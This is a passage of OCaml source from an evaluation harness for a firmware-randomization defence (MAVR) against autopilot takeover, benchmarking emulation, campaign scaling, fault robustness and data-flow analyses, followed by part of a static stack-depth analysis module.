  let _, _, arduplane = List.hd (Lazy.force builds) in
  let image = arduplane.F.Build.image in
  let budget = if !quick then 2_000_000 else 20_000_000 in
  let measure ~instrument =
    let cpu = Cpu.create () in
    Cpu.set_decode_cache cpu true;
    Cpu.load_program cpu image.Image.code;
    let probes =
      if instrument then
        Some (Mavr_avr.Probes.attach ~registry:(Mavr_telemetry.Metrics.create ()) cpu)
      else None
    in
    ignore (Cpu.run_until_halt cpu ~max_cycles:200_000);
    if Cpu.halted cpu <> None then Cpu.reset cpu;
    (* Wall clock, not [Sys.time]: see the decode-cache section. *)
    let retired, span =
      Clock.time (fun () ->
          let spent = ref 0 and retired = ref 0 in
          while !spent < budget do
            let c0 = Cpu.cycles cpu and r0 = Cpu.instructions_retired cpu in
            ignore (Cpu.run_until_halt cpu ~max_cycles:(budget - !spent));
            spent := !spent + max 1 (Cpu.cycles cpu - c0);
            retired := !retired + (Cpu.instructions_retired cpu - r0);
            if Cpu.halted cpu <> None then Cpu.reset cpu
          done;
          !retired)
    in
    (Clock.rate (float_of_int retired) span, span, probes)
  in
  let disabled, span_off, _ = measure ~instrument:false in
  let enabled, span_on, probes = measure ~instrument:true in
  let overhead_pct = 100.0 *. (disabled -. enabled) /. disabled in
  Printf.printf "  probes disabled (tap flag only)  : %12.0f insn/s\n" disabled;
  Printf.printf "  probes enabled (full bundle)     : %12.0f insn/s\n" enabled;
  Printf.printf "  enabled-path overhead            : %12.1f %%\n" overhead_pct;
  (match probes with
  | Some p ->
      let reg = Mavr_avr.Probes.registry p in
      let metrics = Mavr_telemetry.Metrics.snapshot reg in
      Printf.printf "  (bundle live: %d metrics registered, %d faults recorded)\n"
        (List.length metrics) (Mavr_avr.Probes.faults_seen p)
  | None -> ());
  put "telemetry_overhead"
    (J.Obj
       [ ("disabled_insn_per_s", J.Float disabled);
         ("enabled_insn_per_s", J.Float enabled);
         ("enabled_overhead_pct", J.Float overhead_pct);
         ("wall_s", J.Float (span_off.Clock.wall_s +. span_on.Clock.wall_s));
         ("cpu_s", J.Float (span_off.Clock.cpu_s +. span_on.Clock.cpu_s)) ])

(* ---------------------------------------------------------------- *)
(* PR-4: the campaign engine's scaling behaviour.  Every workload is
   re-run at 1/2/4/8 domains and its canonical JSON document compared
   byte-for-byte against the jobs=1 run — the determinism contract is
   part of the benchmark, not just the test suite.  Speedups are wall
   clock (the whole point of the Sys.time fix); cpu_s is reported next
   to it so the parallel efficiency is visible too. *)

let campaign_scaling () =
  section "Campaign engine — deterministic parallel scaling (1/2/4/8 domains)";
  let _, _, arduplane = List.hd (Lazy.force builds) in
  let img = arduplane.F.Build.image in
  let b = Lazy.force tiny in
  let jobs_list = [ 1; 2; 4; 8 ] in
  let host = Domain.recommended_domain_count () in
  Printf.printf "  host parallelism: Domain.recommended_domain_count = %d\n" host;
  (* [scale name items f] runs [f ~jobs] per job count; [f] returns the
     workload's canonical JSON string so byte-equality is checked on
     exactly what a consumer would see. *)
  let scale name items f =
    let rows =
      List.map (fun jobs -> let doc, span = Clock.time (fun () -> f ~jobs) in (jobs, doc, span))
        jobs_list
    in
    let reference, base =
      match rows with
      | (_, doc, span) :: _ -> (doc, span.Clock.wall_s)
      | [] -> ("", 0.0)
    in
    Printf.printf "  %-24s %4s %10s %10s %9s %12s %10s\n" name "jobs" "wall (s)" "cpu (s)"
      "speedup" "items/s" "identical";
    List.map
      (fun (jobs, doc, (span : Clock.span)) ->
        let identical = String.equal doc reference in
        let speedup = if span.Clock.wall_s > 0.0 then base /. span.Clock.wall_s else 1.0 in
        let rate = Clock.rate (float_of_int items) span in
        Printf.printf "  %-24s %4d %10.3f %10.3f %8.2fx %12.1f %10b\n" "" jobs span.Clock.wall_s
          span.Clock.cpu_s speedup rate identical;
        J.Obj
          [ ("jobs", J.Int jobs); ("wall_s", J.Float span.Clock.wall_s);
            ("cpu_s", J.Float span.Clock.cpu_s); ("speedup", J.Float speedup);
            ("items_per_s", J.Float rate); ("identical", J.Bool identical) ])
      rows
  in
  let layouts = if !quick then 4 else 16 in
  let census ~jobs =
    J.to_string
      (Mavr_analysis.Survival.to_json
         (Mavr_analysis.Survival.census ~seed:(Mavr_analysis.Survival.Root 0) ~jobs ~layouts img))
  in
  let trials = if !quick then 1 else 3 in
  let ms = if !quick then 300 else 900 in
  let grid ~jobs =
    J.to_string (Mavr_sim.Montecarlo.to_json (Mavr_sim.Montecarlo.run ~jobs ~ms ~seed:7 ~trials b))
  in
  let rand_tasks = if !quick then 4 else 16 in
  let rand ~jobs =
    let moved =
      Mavr_campaign.Engine.map ~jobs ~seed:3 ~tasks:rand_tasks (fun ~index:_ ~rng ->
          Randomize.layout_distance img
            (Randomize.randomize ~seed:(Mavr_prng.Splitmix.next rng) img))
    in
    J.to_string (J.List (Array.to_list (Array.map (fun d -> J.Int d) moved)))
  in
  let census_rows = scale "survival census" layouts census in
  let grid_rows = scale "Monte Carlo grid" (3 * 3 * trials) grid in
  let rand_rows = scale "randomize throughput" rand_tasks rand in
  put "campaign"
    (J.Obj
       [ ("host_domains", J.Int host);
         ("census_layouts", J.Int layouts);
         ("grid_trials_per_cell", J.Int trials);
         ("grid_flight_ms", J.Int ms);
         ("randomize_tasks", J.Int rand_tasks);
         ("census_scaling", J.List census_rows);
         ("grid_scaling", J.List grid_rows);
         ("randomize_scaling", J.List rand_rows) ])

(* The robustness sweep: the full attack grid plus attack-free control
   flights at every fault intensity of the stress profile — channel
   noise, SEUs, reflash-stream corruption.  The headline claims carried
   into the committed artifact: the faulted campaign document is
   jobs-invariant, and MAVR concedes zero takeovers at every level. *)
let fault_robustness () =
  section "Fault robustness — detection & false alarms across fault intensities";
  let module MC = Mavr_sim.Montecarlo in
  let b = Lazy.force tiny in
  let trials = if !quick then 1 else 3 in
  let ms = if !quick then 300 else 600 in
  let profile = Mavr_fault.Profile.stress in
  let run ~jobs = MC.run ~jobs ~ms ~faults:profile ~seed:21 ~trials b in
  let g1, span = Clock.time (fun () -> run ~jobs:1) in
  let g2 = run ~jobs:2 in
  let identical = String.equal (J.to_string (MC.to_json g1)) (J.to_string (MC.to_json g2)) in
  let mavr_takeovers = MC.takeovers g1 MC.Mavr_defense in
  Printf.printf "  profile %s: %d trials/cell, %d ms flights (%.2f s wall)\n" profile.Mavr_fault.Profile.name
    trials ms span.Clock.wall_s;
  Printf.printf "  jobs-invariant with faults: %b; MAVR takeovers across all levels: %d\n"
    identical mavr_takeovers;
  Printf.printf "  %-10s %10s %11s %18s %18s\n" "level" "takeovers" "detections" "mavr-false-alarms"
    "undef-false-alarms";
  let level_rows =
    Array.to_list
      (Array.map
         (fun (lr : MC.level_result) ->
           let far d =
             let c =
               Array.to_list lr.MC.controls
               |> List.find (fun (c : MC.control) -> c.MC.posture = d)
             in
             MC.false_alarm_rate c
           in
           let mavr_far = far MC.Mavr_defense and undef_far = far MC.Undefended in
           let tk = MC.level_takeovers lr MC.Mavr_defense in
           let det = MC.level_detections lr MC.Mavr_defense in
           Printf.printf "  %-10s %10d %11d %18.2f %18.2f\n" lr.MC.level.Mavr_fault.Profile.name
             tk det mavr_far undef_far;
           J.Obj
             [ ("level", J.String lr.MC.level.Mavr_fault.Profile.name);
               ("mavr_takeovers", J.Int tk);
               ("mavr_detections", J.Int det);
               ("mavr_false_alarm_rate", J.Float mavr_far);
               ("undefended_false_alarm_rate", J.Float undef_far) ])
         g1.MC.levels)
  in
  put "fault_robustness"
    (J.Obj
       [ ("profile", J.String profile.Mavr_fault.Profile.name);
         ("trials_per_cell", J.Int trials);
         ("flight_ms", J.Int ms);
         ("wall_s", J.Float span.Clock.wall_s);
         ("cpu_s", J.Float span.Clock.cpu_s);
         ("identical_j1_j2", J.Bool identical);
         ("mavr_takeovers", J.Int mavr_takeovers);
         ("levels", J.List level_rows) ])

(* ---------------------------------------------------------------- *)
(* PR-7: the observability tax.  The span tracer and progress stream
   are opt-in; when armed they must neither change any campaign result
   (byte-identical canonical JSON) nor slow the run materially.  Both
   runs at jobs=1 so the comparison is pure instrumentation cost, not
   scheduling noise. *)

let tracing_overhead () =
  section "Tracing overhead — campaign with spans+progress vs default (jobs=1)";
  let module MC = Mavr_sim.Montecarlo in
  let b = Lazy.force tiny in
  let trials = if !quick then 1 else 3 in
  let ms = if !quick then 300 else 600 in
  (* One untimed warm-up flight first (allocator, lazy superblock
     compiles), then best-of-2 per configuration — a single cold pair
     reads warm-up noise as tens of percent of "overhead".  The ratio
     is taken on CPU time: at jobs=1 the two are the same work, but
     wall clock on a shared single-core host folds co-tenant load into
     whichever run drew the short straw (observed swings of ±40% on an
     instrumentation delta that is actually sub-1%). *)
  ignore (MC.run ~jobs:1 ~ms ~seed:11 ~trials b);
  let best f =
    let r1, s1 = Clock.time f in
    let _, s2 = Clock.time f in
    (r1, Float.min s1.Clock.wall_s s2.Clock.wall_s, Float.min s1.Clock.cpu_s s2.Clock.cpu_s)
  in
  let off, off_wall, off_cpu = best (fun () -> MC.run ~jobs:1 ~ms ~seed:11 ~trials b) in
  let tracer = Clock.tracer () in
  let progress = Mavr_campaign.Progress.create ~interval_s:0.05 ~sink:(fun _ -> ()) () in
  let on, on_wall, on_cpu =
    best (fun () -> MC.run ~jobs:1 ~ms ~seed:11 ~trials ~tracer ~progress b)
  in
  let identical = String.equal (J.to_string (MC.to_json off)) (J.to_string (MC.to_json on)) in
  let overhead_pct = if off_cpu > 0.0 then 100.0 *. (on_cpu -. off_cpu) /. off_cpu else 0.0 in
  let events = Mavr_telemetry.Span.event_count tracer in
  let lines = Mavr_campaign.Progress.lines_emitted progress in
  Printf.printf "  untraced grid (%d trials/cell, %d ms) : %8.3f s wall %8.3f s cpu\n" trials ms
    off_wall off_cpu;
  Printf.printf "  traced grid (spans + 50 ms heartbeat) : %8.3f s wall %8.3f s cpu\n" on_wall
    on_cpu;
  Printf.printf "  overhead (cpu)                         : %8.1f %% (gate: <= 10%% on full runs)\n"
    overhead_pct;
  Printf.printf "  trace events %d across %d lanes; %d progress lines; results identical: %b\n"
    events (Mavr_telemetry.Span.lane_count tracer) lines identical;
  put "tracing"
    (J.Obj
       [ ("trials_per_cell", J.Int trials);
         ("flight_ms", J.Int ms);
         ("off_wall_s", J.Float off_wall);
         ("on_wall_s", J.Float on_wall);
         ("off_cpu_s", J.Float off_cpu);
         ("on_cpu_s", J.Float on_cpu);
         ("overhead_pct", J.Float overhead_pct);
         ("identical", J.Bool identical);
         ("trace_events", J.Int events);
         ("trace_lanes", J.Int (Mavr_telemetry.Span.lane_count tracer));
         ("progress_lines", J.Int lines) ])

(* ---------------------------------------------------------------- *)
(* PR-9: the resumable-campaign machinery.  Two claims carried into
   the committed artifact: a checkpointed grid truncated to half its
   completed frontier and resumed reproduces the uninterrupted document
   byte-for-byte (and the resumed half costs roughly half the wall
   time), and adaptive early stopping saves a measurable share of the
   trial budget while keeping the document jobs-invariant, with every
   saved trial accounted for explicitly. *)

let resumable_campaign () =
  section "Resumable campaign — checkpoint/resume and adaptive early stopping";
  let module MC = Mavr_sim.Montecarlo in
  let module CK = Mavr_campaign.Checkpoint in
  let b = Lazy.force tiny in
  let profile_name = b.F.Build.profile.F.Profile.name in
  let trials = if !quick then 12 else 16 in
  let ms = if !quick then 200 else 500 in
  let seed = 29 in
  let full, full_span = Clock.time (fun () -> MC.run ~jobs:1 ~ms ~seed ~trials b) in
  let full_json = J.to_string (MC.to_json full) in
  let spec = MC.checkpoint_spec ~ms ~profile:profile_name ~seed ~trials () in
  let tasks = spec.CK.tasks in
  (* Checkpoint a complete run, then truncate the snapshot to half the
     frontier — the state a SIGKILL halfway through would leave — and
     resume from it. *)
  let path = Filename.temp_file "mavr_bench_ck" ".jsonl" in
  let ck = CK.create ~path ~every:8 spec in
  ignore (MC.run ~jobs:1 ~ms ~seed ~trials ~checkpoint:ck b);
  CK.close ck;
  let lines =
    let ic = open_in_bin path in
    let s = really_input_string ic (in_channel_length ic) in
    close_in ic;
    String.split_on_char '\n' s |> List.filter (fun l -> String.trim l <> "")
  in
  let keep = 1 + ((List.length lines - 1) / 2) in
  let oc = open_out_bin path in
  List.iteri
    (fun i l -> if i < keep then (output_string oc l; output_char oc '\n'))
    lines;
  close_out oc;
  let resumed, resume_span =
    Clock.time (fun () ->
        match CK.resume ~path spec with
        | Error e -> failwith ("bench: resume failed: " ^ e)
        | Ok ck ->
            let g = MC.run ~jobs:1 ~ms ~seed ~trials ~checkpoint:ck b in
            CK.close ck;
            g)
  in
  Sys.remove path;
  let resume_identical = String.equal full_json (J.to_string (MC.to_json resumed)) in
  Printf.printf "  fixed budget: %d tasks, %.2f s wall (jobs=1)\n" tasks full_span.Clock.wall_s;
  Printf.printf "  resumed from %d/%d frontier: %.2f s wall; byte-identical: %b\n" (keep - 1)
    tasks resume_span.Clock.wall_s resume_identical;
  Printf.printf "  %-8s %14s %9s %16s %9s\n" "target" "trials skipped" "saved" "jobs-invariant"
    "wall s";
  let es_rows =
    List.map
      (fun target ->
        let es = Mavr_campaign.Early_stop.create ~target () in
        let g1, es_span =
          Clock.time (fun () -> MC.run ~jobs:1 ~ms ~seed ~trials ~early_stop:es b)
        in
        let g4 = MC.run ~jobs:4 ~ms ~seed ~trials ~early_stop:es b in
        let identical =
          String.equal (J.to_string (MC.to_json g1)) (J.to_string (MC.to_json g4))
        in
        let saved_pct = 100.0 *. float_of_int g1.MC.trials_skipped /. float_of_int tasks in
        Printf.printf "  %-8.2f %14d %8.1f%% %16b %9.2f\n" target g1.MC.trials_skipped saved_pct
          identical es_span.Clock.wall_s;
        J.Obj
          [ ("target_halfwidth", J.Float target);
            ("trials_skipped", J.Int g1.MC.trials_skipped);
            ("saved_pct", J.Float saved_pct);
            ("identical_j1_j4", J.Bool identical);
            ("wall_s", J.Float es_span.Clock.wall_s) ])
      [ 0.3; 0.45 ]
  in
  put "resumable"
    (J.Obj
       [ ("trials_per_cell", J.Int trials);
         ("flight_ms", J.Int ms);
         ("tasks", J.Int tasks);
         ("full_wall_s", J.Float full_span.Clock.wall_s);
         ("resume_wall_s", J.Float resume_span.Clock.wall_s);
         ("resume_frontier", J.Int (keep - 1));
         ("resume_identical", J.Bool resume_identical);
         ("early_stop", J.List es_rows) ])

(* ---------------------------------------------------------------- *)
(* PR-10: multi-host sharding.  The dispatcher splits the task space
   into cell-aligned shards, drives Service workers (here: in-process
   serve loops on temp sockets, each running the real shard executor),
   merges the streamed checkpoint entries and replays them through the
   campaign join.  The claim carried into the committed artifact is
   byte-identity with the single-host document — plus what the
   coordination costs in wall time against two concurrent workers. *)

let dispatch_bench () =
  section "Dispatch — sharded campaign over serve workers vs single host";
  let module MC = Mavr_sim.Montecarlo in
  let module CK = Mavr_campaign.Checkpoint in
  let module D = Mavr_campaign.Dispatch in
  let module Service = Mavr_campaign.Service in
  let b = Lazy.force tiny in
  let profile_name = b.F.Build.profile.F.Profile.name in
  let trials = if !quick then 12 else 16 in
  let ms = if !quick then 200 else 500 in
  let seed = 29 in
  let single, single_span = Clock.time (fun () -> MC.run ~jobs:1 ~ms ~seed ~trials b) in
  let single_json = J.to_string (MC.to_json single) in
  let spec = MC.checkpoint_spec ~ms ~profile:profile_name ~seed ~trials () in
  let workers = 2 in
  let shards = D.plan ~tasks:spec.CK.tasks ~block:trials ~shards:workers in
  let handler req ~progress =
    let geti k j = Option.bind (J.member k j) J.to_int in
    match J.member "shard" req with
    | Some sh -> (
        match (geti "lo" sh, geti "hi" sh) with
        | Some lo, Some hi ->
            let ck = CK.create ~stream:progress spec in
            MC.run_shard ~jobs:1 ~ms ~checkpoint:ck ~lo ~hi ~seed ~trials b;
            Ok (J.Obj [ ("entries", J.Int (CK.completed ck)) ])
        | _ -> Error "bad shard bounds")
    | None -> Error "no shard in request"
  in
  let sockets =
    List.init workers (fun i ->
        let path = Filename.temp_file (Printf.sprintf "mavr_bench_disp%d_" i) ".sock" in
        Sys.remove path;
        path)
  in
  let domains =
    List.map
      (fun s -> Domain.spawn (fun () -> Service.serve ~socket:s ~max_requests:1 handler))
      sockets
  in
  let request ~lo ~hi = J.Obj [ ("shard", J.Obj [ ("lo", J.Int lo); ("hi", J.Int hi) ]) ] in
  let (merged, outcome), dispatch_span =
    Clock.time (fun () ->
        match
          D.run ~spec ~request ~block:trials
            ~workers:(List.map (fun s -> D.Unix_socket s) sockets)
            ~shards ()
        with
        | Error e -> failwith ("bench: dispatch failed: " ^ D.error_to_string e)
        | Ok o ->
            (* merge by replay: prime a fresh checkpoint and let the
               campaign join emit the document — zero trials execute *)
            let ck = CK.create spec in
            List.iter
              (fun (i, e) ->
                match e with
                | CK.Result r -> CK.record ck ~index:i r
                | CK.Skip reason -> CK.skip ck ~index:i ~reason)
              o.D.entries;
            (MC.run ~jobs:1 ~ms ~seed ~trials ~checkpoint:ck b, o))
  in
  List.iter (fun d -> ignore (Domain.join d)) domains;
  List.iter (fun s -> try Sys.remove s with Sys_error _ -> ()) sockets;
  let identical = String.equal single_json (J.to_string (MC.to_json merged)) in
  let entries = List.length outcome.D.entries in
  Printf.printf "  single host (jobs=1)                  : %8.3f s wall (%d tasks)\n"
    single_span.Clock.wall_s spec.CK.tasks;
  Printf.printf "  dispatched (%d shards over %d workers) : %8.3f s wall\n" (List.length shards)
    workers dispatch_span.Clock.wall_s;
  Printf.printf
    "  merged entries %d/%d; %d assignment(s), %d worker failure(s), %d heartbeat(s)\n" entries
    spec.CK.tasks outcome.D.assignments outcome.D.worker_failures outcome.D.heartbeats;
  Printf.printf "  byte-identical to single host          : %b\n" identical;
  put "dispatch"
    (J.Obj
       [ ("trials_per_cell", J.Int trials);
         ("flight_ms", J.Int ms);
         ("tasks", J.Int spec.CK.tasks);
         ("shards", J.Int (List.length shards));
         ("workers", J.Int workers);
         ("single_wall_s", J.Float single_span.Clock.wall_s);
         ("dispatch_wall_s", J.Float dispatch_span.Clock.wall_s);
         ("entries", J.Int entries);
         ("assignments", J.Int outcome.D.assignments);
         ("worker_failures", J.Int outcome.D.worker_failures);
         ("heartbeats", J.Int outcome.D.heartbeats);
         ("identical", J.Bool identical) ])

(* ---------------------------------------------------------------- *)
(* PR-8: the interprocedural data-flow clients.  Three per-profile
   claims carried into the committed artifact: the static stack bound
   dominates the SP watermark of an instrumented PARAM_SET-driven
   flight, the uplink taint analysis finds the §IV unchecked copy on
   the vulnerable build and nothing on the bounds-checked one, and the
   translation-validator proves a fresh randomized layout isomorphic.
   The timings are the analysis costs a CI gate pays per image. *)

let dataflow_bench () =
  section "Data-flow clients — static stack bounds, uplink taint, translation validation";
  let module A = Mavr_analysis in
  let fly_watermark image =
    let cpu = Cpu.create () in
    Cpu.load_program cpu image.Image.code;
    let probes = Mavr_avr.Probes.attach ~registry:(Mavr_telemetry.Metrics.create ()) cpu in
    ignore (Cpu.run_until_halt cpu ~max_cycles:60_000);
    for i = 0 to 7 do
      let payload = String.init 16 (fun k -> Char.chr ((1 + i + k) land 0x3F)) in
      Cpu.uart_send cpu
        (Mavr_mavlink.Frame.encode
           { Mavr_mavlink.Frame.seq = i; sysid = 255; compid = 0; msgid = 23; payload })
    done;
    let ms = if !quick then 150 else 400 in
    ignore (Cpu.run_until_halt cpu ~max_cycles:(16_000 * ms));
    Mavr_avr.Probes.min_sp probes
  in
  Printf.printf "  %-12s %7s %8s %6s %7s %7s %6s %8s %8s %8s\n" "Application" "static"
    "dynamic" "holds" "taint" "patched" "valid" "stack ms" "taint ms" "valid ms";
  let rows =
    List.map
      (fun ((p : F.Profile.t), _, mavr) ->
        let img = mavr.F.Build.image in
        let cfg = A.Cfg.recover img in
        let sd, sd_span = Clock.time (fun () -> A.Stackdepth.analyze cfg) in
        let taint, taint_span = Clock.time (fun () -> A.Taint.analyze cfg) in
        let patched = F.Build.build ~pad:mavr.F.Build.pad_bytes p F.Profile.patched in
        let taint_p = A.Taint.analyze (A.Cfg.recover patched.F.Build.image) in
        let rnd = Randomize.randomize ~seed:7 img in
        let valid, eq_span =
          Clock.time (fun () -> A.Equiv.validate ~original:img ~randomized:rnd)
        in
        let validator_ok = Result.is_ok valid in
        let static = sd.A.Stackdepth.image_bound in
        let dynamic =
          match fly_watermark img with
          | Some sp -> Some (F.Layout.stack_top - sp)
          | None -> None
        in
        let holds =
          match (static, dynamic) with
          | A.Stackdepth.Finite b, Some d -> d <= b
          | _ -> false
        in
        let n_mavr = List.length taint.A.Taint.findings in
        let n_patched = List.length taint_p.A.Taint.findings in
        Printf.printf "  %-12s %7s %7dB %6b %7d %7d %6b %8.1f %8.1f %8.1f\n" p.name
          (Format.asprintf "%a" A.Stackdepth.pp_bound static)
          (Option.value dynamic ~default:(-1)) holds n_mavr n_patched validator_ok
          (1000. *. sd_span.Clock.wall_s)
          (1000. *. taint_span.Clock.wall_s)
          (1000. *. eq_span.Clock.wall_s);
        ( String.lowercase_ascii p.name,
          J.Obj
            [
              ("static_bound", A.Stackdepth.bound_to_json static);
              ("dynamic_high_water", J.Int (Option.value dynamic ~default:(-1)));
              ("bound_holds", J.Bool holds);
              ("taint_findings_mavr", J.Int n_mavr);
              ("taint_findings_patched", J.Int n_patched);
              ("validator_ok", J.Bool validator_ok);
              ("stackdepth_ms", J.Float (1000. *. sd_span.Clock.wall_s));
              ("taint_ms", J.Float (1000. *. taint_span.Clock.wall_s));
              ("validate_ms", J.Float (1000. *. eq_span.Clock.wall_s));
            ] ))
      (Lazy.force builds)
  in
  Printf.printf
    "  (gates: static >= dynamic, taint = 1 finding on mavr / 0 on patched, validator OK)\n";
  put "dataflow" (J.Obj rows)

(* ---------------------------------------------------------------- *)
(* Bechamel micro-benchmarks of this implementation.                 *)

let microbenchmarks () =
  section "Micro-benchmarks (Bechamel; OCaml implementation performance)";
  let open Bechamel in
  let b = Lazy.force tiny in
  let _, _, arduplane = List.hd (Lazy.force builds) in
  let img = arduplane.F.Build.image in
  let frame =
    { Mavr_mavlink.Frame.seq = 1; sysid = 1; compid = 1; msgid = 27; payload = String.make 26 'x' }
  in
  let wire = Mavr_mavlink.Frame.encode frame in
  let seed = ref 0 in
  let tests =
    [
      Test.make ~name:"randomize+patch (221 KB, Table II pipeline)"
        (Staged.stage (fun () ->
             incr seed;
             ignore (Randomize.randomize ~seed:!seed img)));
      Test.make ~name:"gadget scan (221 KB image, Fig. 4/5)"
        (Staged.stage (fun () -> ignore (Gadget.scan img)));
      Test.make ~name:"emulator: 100k cycles of autopilot"
        (Staged.stage
           (let cpu = Cpu.create () in
            Cpu.load_program cpu b.F.Build.image.Image.code;
            fun () ->
              if Cpu.halted cpu <> None then Cpu.reset cpu;
              ignore (Cpu.run cpu ~max_cycles:100_000)));
      Test.make ~name:"MAVLink frame encode (Fig. 2)"
        (Staged.stage (fun () -> ignore (Mavr_mavlink.Frame.encode frame)));
      Test.make ~name:"MAVLink frame decode (Fig. 2)"
        (Staged.stage (fun () -> ignore (Mavr_mavlink.Frame.decode wire)));
      Test.make ~name:"Intel HEX roundtrip (preprocessed image)"
        (Staged.stage (fun () ->
             ignore (Mavr_obj.Ihex.decode (Mavr_obj.Symtab.to_hex b.F.Build.image))));
      Test.make ~name:"exact 917! (brute-force effort, Sec V-D)"
        (Staged.stage (fun () -> ignore (Nat.factorial 917)));
      Test.make ~name:"firmware build (tiny profile)"
        (Staged.stage (fun () ->
             ignore (F.Build.build (F.Profile.tiny ~n:60 ~seed:3) F.Profile.mavr)));
    ]
  in
  let benchmark test =
    let instance = Toolkit.Instance.monotonic_clock in
    let cfg = Benchmark.cfg ~limit:200 ~quota:(Time.second 0.5) ~kde:(Some 100) () in
    let results = Benchmark.all cfg [ instance ] (Test.make_grouped ~name:"g" [ test ]) in
    let ols = Analyze.ols ~bootstrap:0 ~r_square:false ~predictors:[| Measure.run |] in
    let results = Analyze.all ols instance results in
    Hashtbl.iter
      (fun name v ->
        match Analyze.OLS.estimates v with
        | Some [ est ] -> Printf.printf "  %-52s %14.0f ns/run\n" name est
        | _ -> Printf.printf "  %-52s (no estimate)\n" name)
      results
  in
  List.iter benchmark tests

let write_json path =
  let doc =
    J.Obj
      ([ ("schema", J.String "mavr-bench"); ("pr", J.Int 9); ("quick", J.Bool !quick) ]
      @ List.rev !results)
  in
  let oc = open_out path in
  output_string oc (J.to_string ~indent:2 doc);
  output_char oc '\n';
  close_out oc;
  Printf.printf "\nJSON results written to %s\n" path

let () =
  Arg.parse
    [ ("--quick", Arg.Set quick, " reduced cycle budgets, no micro-benchmarks (CI smoke)");
      ("--json", Arg.String (fun p -> json_out := Some p), "PATH write machine-readable results") ]
    (fun a -> raise (Arg.Bad ("unexpected argument " ^ a)))
    "main.exe [--quick] [--json PATH]";
  print_endline "MAVR reproduction — evaluation harness";
  fig1_memory_map ();
  fig2_mavlink ();
  table1 ();
  table3 ();
  table2 ();
  fig4_5_gadgets ();
  static_analysis ();
  dataflow_bench ();
  fig6 ();
  effectiveness ();
  bruteforce_and_entropy ();
  randomization_frequency ();
  runtime_defense_ablation ();
  randomizability ();
  decode_cache_bench ();
  superblock_bench ();
  telemetry_overhead_bench ();
  campaign_scaling ();
  fault_robustness ();
  tracing_overhead ();
  resumable_campaign ();
  dispatch_bench ();
  if not !quick then microbenchmarks ();
  (match !json_out with Some path -> write_json path | None -> ());
  print_endline "\nDone.  See EXPERIMENTS.md for the paper-vs-measured discussion."
