examples/stealthy_attack.ml: Char Format List Mavr_avr Mavr_core Mavr_firmware Mavr_obj Printf String
