lib/sim/sensors.mli: Dynamics Mavr_avr
