module Isa = Mavr_avr.Isa
module Device = Mavr_avr.Device
module Image = Mavr_obj.Image
module Json = Mavr_telemetry.Json

type sp_class = Sp_relative | Const_init | Unknown_source

type bound = Finite of int | Unbounded of string

let bound_max a b =
  match (a, b) with
  | Finite x, Finite y -> Finite (max x y)
  | (Unbounded _ as u), _ | _, (Unbounded _ as u) -> u

let bound_add a k = match a with Finite x -> Finite (x + k) | Unbounded _ -> a
let bound_sum a b = match (a, b) with
  | Finite x, Finite y -> Finite (x + y)
  | (Unbounded _ as u), _ | _, (Unbounded _ as u) -> u

(* ---- abstract domain ------------------------------------------------- *)

(* Depth: bytes pushed below the SP value at this entry.  [DTop] is the
   widened/unknown top. *)
type dval = D of int | DTop

(* What a register holds, as far as SP tracking cares.  [Sp_lo o] is the
   low byte of (SP-at-entry - o); [Pend_lo (o, kl)] is [Sp_lo o] after a
   [subi kl] whose borrow the matching [sbci] has not consumed yet (the
   16-bit frame-adjust idiom). *)
type rv = RTop | RConst of int | Sp_lo of int | Sp_hi of int | Pend_lo of int * int

(* A half-written SP: which value the written half came from. *)
type hv = VSp of int | VConst
type half = Wrote_lo of hv | Wrote_hi of hv

type st = { depth : dval; regs : rv array; half : half option }

module Dom = struct
  type t = st

  let equal a b = a.depth = b.depth && a.half = b.half && a.regs = b.regs

  let join a b =
    if equal a b then a
    else
      let depth =
        match (a.depth, b.depth) with
        | D x, D y -> D (max x y)
        | DTop, _ | _, DTop -> DTop
      in
      let regs = Array.init 32 (fun i -> if a.regs.(i) = b.regs.(i) then a.regs.(i) else RTop) in
      (* Merging a path mid-way through a split SP write leaves the real
         SP torn on one side — give up on the depth there. *)
      if a.half = b.half then { depth; regs; half = a.half }
      else { depth = DTop; regs; half = None }
end

module S = Dataflow.Solver (Dom)

let entry_state () = { depth = D 0; regs = Array.make 32 RTop; half = None }

let signed16 v = if v land 0x8000 <> 0 then v - 0x10000 else v

(* avr-gcc call-clobbered registers (r0, r18-r27, r30-r31); the
   callee-saved set (r2-r17, r28/r29) is assumed preserved across calls
   — the ABI every function in this firmware follows. *)
let call_clobbered r = r = 0 || (r >= 18 && r <= 27) || r = 30 || r = 31

let ptr_regs = function
  | Isa.X -> (26, false)
  | Isa.X_inc | Isa.X_dec -> (26, true)
  | Isa.Y_inc | Isa.Y_dec -> (28, true)
  | Isa.Z_inc | Isa.Z_dec -> (30, true)

(* Non-control effect of one instruction.  [record_sp] is called with
   the source classification of every [out SPL/SPH]. *)
let apply ~record_sp addr insn st =
  let regs = Array.copy st.regs in
  let st = { st with regs } in
  let set r v = regs.(r) <- v in
  let torn st = { st with depth = DTop; half = None } in
  let depth_add k =
    if st.half <> None then torn st
    else { st with depth = (match st.depth with D d -> D (d + k) | DTop -> DTop) }
  in
  let spl = Device.Io.spl and sph = Device.Io.sph in
  let classify r ~lo =
    match regs.(r) with
    | Sp_lo o when lo -> Some (VSp o)
    | Sp_hi o when not lo -> Some (VSp o)
    | RConst _ -> Some VConst
    | _ -> None
  in
  let sp_out ~lo r =
    match classify r ~lo with
    | None ->
        record_sp addr Unknown_source;
        torn st
    | Some v -> (
        record_sp addr (match v with VSp _ -> Sp_relative | VConst -> Const_init);
        let commit () =
          { st with depth = (match v with VSp o -> D o | VConst -> D 0); half = None }
        in
        match (st.half, lo) with
        | Some (Wrote_hi v'), true when v' = v -> commit ()
        | Some (Wrote_lo v'), false when v' = v -> commit ()
        | None, true -> { st with half = Some (Wrote_lo v) }
        | None, false -> { st with half = Some (Wrote_hi v) }
        (* Re-writing the same half just replaces the pending value;
           mismatched halves leave SP torn. *)
        | Some (Wrote_lo _), true -> { st with half = Some (Wrote_lo v) }
        | Some (Wrote_hi _), false -> { st with half = Some (Wrote_hi v) }
        | Some _, _ -> torn st)
  in
  match insn with
  | Isa.Push _ -> depth_add 1
  | Isa.Pop r ->
      set r RTop;
      depth_add (-1)
  | Isa.In (r, p) ->
      set r
        (if st.half <> None then RTop
         else
           match st.depth with
           | D d when p = spl -> Sp_lo d
           | D d when p = sph -> Sp_hi d
           | _ -> RTop);
      st
  | Isa.Out (p, r) when p = spl -> sp_out ~lo:true r
  | Isa.Out (p, r) when p = sph -> sp_out ~lo:false r
  | Isa.Out _ -> st
  | Isa.Ldi (r, k) ->
      set r (RConst k);
      st
